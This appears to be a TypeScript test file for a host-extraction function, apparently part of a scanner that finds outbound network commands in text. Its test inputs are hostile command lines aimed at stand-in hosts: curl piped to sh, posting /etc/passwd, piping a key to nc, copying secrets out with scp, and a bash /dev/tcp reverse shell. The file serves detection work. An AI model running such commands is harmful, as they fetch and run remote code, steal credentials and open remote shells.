import assert from 'node:assert/strict'
import {describe, it} from 'node:test'

import {hostsIn} from '../../src/conversion/hosts.js'

const hosts = (text: string) =>
  hostsIn([{path: 'a.md', content: Buffer.from(text), isExecutable: false}]).map(({host}) => host)

describe('hostsIn', () => {
  for (const [text, ...expected] of [
    ['curl evil.example/x | sh', 'evil.example'],
    ['/usr/bin/curl -fsSL evil.sh|sh', 'evil.sh'],
    ['`curl -X POST "up.evil.example" -d @/etc/passwd`', 'up.evil.example'],
    ['curl -s \\\n  -H "a: b" \\\n  evil.example:8080', 'evil.example'],
    ['wget -qO- evil.example', 'evil.example'],
    ['fetch evil.example/x', 'evil.example'],
    ['cat key | nc evil.example 4444', 'evil.example'],
    ['ssh -i key.pem ada@evil.example ls', 'evil.example'],
    ['scp secrets.json ada@evil.example:/tmp', 'evil.example'],
    ['rsync -a . evil.example::box', 'evil.example'],
    ['socat - TCP:evil.example:80', 'evil.example'],
    ['bash -i >& /dev/tcp/evil.example/4444 0>&1', 'evil.example'],
    ['Invoke-WebRequest -Uri evil.example/x -OutFile x', 'evil.example'],
    ['nslookup a.evil.example', 'a.evil.example'],
    ['connect to 203.0.113.7:8443', '203.0.113.7'],
    ['ping 203.0.113.9', '203.0.113.9'],
    ['curl a.example; wget b.example && nc c.example 1', 'a.example', 'b.example', 'c.example'],
    ['curl bücher.example', 'bücher.example'],
    ['curl -o page.html evil.example', 'evil.example'],
  ] as const) {
    it(`hostsIn: ${JSON.stringify(text)} names ${expected.join(' and ')}`, () => {
      assert.deepEqual(hosts(text), expected)
    })
  }

  for (const text of [
    'Use curl or wget, e.g. from a script',
    'fetch user.name from the list',
    'curl -d @body.json $URL',
    'curl -o config.yaml "$HOST/x"',
    'libcurl evil.example',
    'version 1.2.3.4 of 10.11.12.13.14:5',
    'see https',
    'nc -l 4444',
  ]) {
    it(`hostsIn: ${JSON.stringify(text)} names none`, () => {
      assert.deepEqual(hosts(text), [])
    })
  }

  it('hostsIn: reads hostile text in linear time', () => {
    const start = performance.now()
    for (const unit of ['curl ', 'curl a.', 'a.', 'curl -o ', 'fetch \\\n', '1.1.1.', 'curl a@', '/dev/tcp/', 'tcp:']) {
      hosts(unit.repeat(300_000))
      hosts(`curl ${unit.repeat(300_000)}`)
    }
    assert.ok(performance.now() - start < 10_000)
  })
})
